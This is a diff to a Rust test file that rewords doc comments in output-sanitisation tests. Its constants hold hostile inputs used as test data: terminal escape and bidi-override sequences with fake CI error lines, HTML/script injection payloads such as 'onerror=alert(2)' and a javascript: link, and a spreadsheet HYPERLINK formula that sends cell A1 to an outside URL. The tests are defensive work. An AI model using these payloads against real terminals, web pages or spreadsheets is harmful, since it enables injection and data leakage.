@@ -9,9 +9,9 @@ use trueno_testing::full_of;
 
 use crate::harness::Dir;
 
-/// Clears the screen, sets a title, rings, turns text round, ends lines in each way, and begins lines of its own.
+/// Clears the screen, sets a title, rings the bell, reverses text, ends lines in every way, and begins new ones.
 const TERMINAL: &str = "a\x1b[2J\x1b]0;t\x07\u{9b}31m\u{202e}b\u{200f}\u{2028}c\r\nerror: fake\n::error::fake%0A\0\u{85}d\u{7f}";
-/// Ends scripts, comments, sections, attributes, cells, code spans, labels and frames.
+/// Closes scripts, comments, sections, attributes, cells, code spans, labels and frames.
 const MARKUP: &str = "</script><script>alert(1)</script>]]>--><img src=x onerror=alert(2)>\" onload=\"alert(3)' |`x`| [l](javascript:a) \"]; evil [label=\"x;y 7\\";
 const FORMULA: &str = "=HYPERLINK(\"http://x/\"&A1,\"y\")";
 const TEXTS: [&str; 3] = [TERMINAL, MARKUP, FORMULA];
@@ -68,7 +68,7 @@ fn hostile_run(dir: &Dir) -> String {
     run.to_str().unwrap().to_owned()
 }
 
-/// Nothing that moves a cursor, and no line that the text began.
+/// Asserts that no character moves the cursor, and that no line begins with what the text contains.
 #[track_caller]
 fn check_lines(what: &str, text: &str) {
     let odd = |c: &char| {
@@ -283,7 +283,7 @@ fn nothing_that_a_run_says_is_markup() {
     dir.command(&exact).exits(0).stdout_has("\"=HYPERLINK(");
 }
 
-/// Rows of a table have as many cells as its heading, and none is markup of pages.
+/// Asserts that all rows of a table have as many cells as its heading, and that none is HTML.
 #[track_caller]
 fn check_tables(markdown: &str) {
     let mut cells = None;
@@ -301,7 +301,7 @@ fn check_tables(markdown: &str) {
     }
 }
 
-/// No cell is a formula but a number.
+/// Asserts that no cell but a number begins like a formula.
 #[track_caller]
 fn check_csv(path: &Path) {
     let text = fs::read_to_string(path).unwrap();
